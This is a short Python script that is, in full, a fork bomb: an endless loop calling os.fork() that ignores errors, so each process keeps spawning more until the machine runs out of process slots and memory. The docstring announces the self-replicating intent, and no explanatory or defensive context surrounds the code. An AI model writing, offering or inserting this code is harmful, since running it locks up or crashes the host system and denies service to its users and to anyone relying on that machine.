"""Every copy starts another one."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
